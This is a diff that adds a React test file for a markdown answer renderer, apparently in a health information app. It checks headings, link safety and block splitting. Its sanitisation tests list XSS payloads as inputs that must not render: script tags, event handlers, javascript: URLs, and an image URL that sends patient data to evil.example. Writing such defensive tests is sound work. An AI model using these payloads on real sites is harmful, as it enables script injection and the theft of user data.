@@ -1,0 +1,107 @@
+import { render } from '@testing-library/react';
+import fc from 'fast-check';
+import { Answer } from '../../web/src/ui/answer';
+import { sectionsOf } from '../../web/src/ui/answer-sections';
+import { blocksOf } from '../../web/src/ui/blocks';
+
+const shown = (markdown: string) => render(<Answer markdown={markdown} lang="en" />).container;
+
+describe('an answer', () => {
+  it('is a document: headings, lists, tables', () => {
+    const page = shown('# Fever\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |');
+    expect(page.querySelector('h1')).toBeNull(); // the screen has its own
+    expect(page.querySelector('h2')).toHaveTextContent('Fever');
+    expect(page.querySelectorAll('li')).toHaveLength(2);
+    expect(page.querySelectorAll('td')).toHaveLength(2);
+  });
+
+  it.each([
+    ['a script', '<script>alert(1)</script>'],
+    ['an event handler', '<div onclick="alert(1)">x</div>'],
+    ['a frame', '<iframe src="https://evil.example"></iframe>'],
+    ['a style', '<style>body{display:none}</style>'],
+    ['a form', '<form action="https://evil.example"><input></form>'],
+    ['a drawing', '<svg onload="alert(1)"></svg>'],
+    ['an image in markup', '<img src=x onerror=alert(1)>'],
+    ['a remote image', '![x](https://evil.example/leak?d=patient)'],
+    ['an image by reference', '![x][r]\n\n[r]: https://evil.example/leak'],
+    ['an image inside a link', '[![x](https://evil.example/i.png)](https://ok.example)'],
+  ])('never renders %s', (_, markdown) => {
+    const page = shown(`Before\n\n${markdown}\n\nAfter`);
+    expect(
+      page.querySelector('script,iframe,style,form,input,svg,img,object,embed,[onclick],[onerror],[onload]'),
+    ).toBeNull();
+    expect(page).toHaveTextContent(/Before[\s\S]*After/);
+  });
+
+  it.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'data:text/html,x',
+    'vbscript:x',
+    '//evil.example',
+    '/auth',
+    'http://plain.example',
+  ])('shows a link to %s as plain words', (address) => {
+    const page = shown(`[the guideline](<${address}>)`);
+    expect(page.querySelector('a')).toBeNull();
+    expect(page).toHaveTextContent('the guideline');
+  });
+
+  it('opens a link to the web in a new tab that does not know where it came from', () => {
+    const link = shown('[source](https://www.who.int/)').querySelector('a');
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+    expect(link).toHaveAttribute('target', '_blank');
+  });
+});
+
+describe('the blocks of an answer', () => {
+  it('are cut at blank lines', () => {
+    expect(blocksOf('## A\n\ntext\nmore\n\n\n## B')).toEqual(['## A', 'text\nmore', '## B']);
+  });
+
+  it('keep fenced code, loose lists and indented lines whole', () => {
+    const code = '```\na\n\nb\n```';
+    const list = '1. one\n\n2. two\n\n   more of two\n\n3. three';
+    expect(blocksOf(`${code}\n\n${list}\n\nend`)).toEqual([code, list, 'end']);
+  });
+
+  it('only ever grow at the end: what was cut before stays as it was', () => {
+    const line = fc.constantFrom(
+      '## H',
+      'text',
+      '- item',
+      '  more',
+      '',
+      '',
+      '```',
+      '| a |',
+      '1. x',
+      '> quote',
+    );
+    fc.assert(
+      fc.property(fc.array(line, { maxLength: 30 }), (lines) => {
+        const whole = blocksOf(lines.join('\n'));
+        const part = blocksOf(lines.slice(0, Math.floor(lines.length / 2)).join('\n'));
+        expect(whole.slice(0, Math.max(0, part.length - 1))).toEqual(part.slice(0, -1));
+      }),
+    );
+  });
+
+  it('lose no line of text', () => {
+    const line = fc.constantFrom('## H', 'text', '- item', '  more', '', '~~~', '1. x');
+    fc.assert(
+      fc.property(fc.array(line, { maxLength: 30 }), (lines) => {
+        const kept = (text: string) => text.split('\n').filter((each) => each.trim() !== '');
+        expect(kept(blocksOf(lines.join('\n')).join('\n\n'))).toEqual(kept(lines.join('\n')));
+      }),
+    );
+  });
+
+  it('name the sections to jump to', () => {
+    expect(sectionsOf('## **Danger** signs\n\nx\n\n### Not this\n\n## Next ##')).toEqual([
+      { id: 'part-0', title: 'Danger signs' },
+      { id: 'part-3', title: 'Next' },
+    ]);
+  });
+});
